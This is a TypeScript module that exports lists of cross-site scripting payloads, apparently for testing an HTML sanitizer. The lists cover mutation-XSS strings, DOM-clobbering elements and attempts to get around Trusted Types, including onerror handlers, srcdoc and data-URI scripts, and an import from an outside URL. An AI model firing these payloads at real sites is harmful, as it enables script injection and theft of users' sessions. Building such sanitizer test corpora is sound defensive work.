import { outside, run } from './html.ts'

/** Strings that change when they are parsed twice (mutation XSS). */
const mutating: readonly string[] = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg><title><style><img src=x onerror=${run}></style></title></svg>`,
  `<svg><desc><noembed><img title="</noembed><img src=x onerror=${run}>"></noembed></desc></svg>`,
  `<table><td><select><img src=x onerror=${run}></select></td></table>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<plaintext><img src=x onerror=${run}>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<iframe><p title="</iframe><img src=x onerror=${run}>"></iframe>`,
  `<a title="\u0060><img src=x onerror=${run}>\u0060">x</a>`,
  `<!--<img src="--><img src=x onerror=${run}>">-->`,
  `<![if !IE]><img src=x onerror=${run}><![endif]>`,
  `<div id="x" is="x" data-react-checksum dangerouslySetInnerHTML='{"__html":"<img src=x onerror=${run}>"}'>`,
  `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"${run}"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  `{"type":"html","value":"<img src=x onerror=${run}>"}`,
]

const clobbered = [
  'janus',
  'root',
  'document',
  'body',
  'cookie',
  'location',
  'forms',
  'attributes',
  'children',
]

/** Elements that shadow the page's own globals (DOM clobbering). */
const clobbering: readonly string[] = [
  ...clobbered.map((name) => `<img id=${name} name=${name}>`),
  '<form id=janus><input name=request><input name=subscribe></form>',
  '<form name=document><img name=createElement></form>',
  '<a id=defaultView><a id=defaultView name=janus href=x>',
  `<a href="#" id="__proto__" name="constructor">x</a>`,
  '<iframe name=janus srcdoc="<script>parent.pwned(1)</script>"></iframe>',
]

/** Ways around Trusted Types. */
const distrusted: readonly string[] = [
  `<script>trustedTypes.createPolicy('default',{createHTML:x=>x})</script>`,
  `<img src=x onerror="trustedTypes.createPolicy('janus',{createScript:x=>x})">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<script nonce="">${run}</script>`,
  `<link rel=import href="${outside('tt')}">`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=${run} /></svg>#x"></svg>`,
  `<object type="text/html" data="data:text/html,<script>${run}</script>"></object>`,
  `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
]

export const mutations: readonly string[] = [...mutating, ...clobbering, ...distrusted]
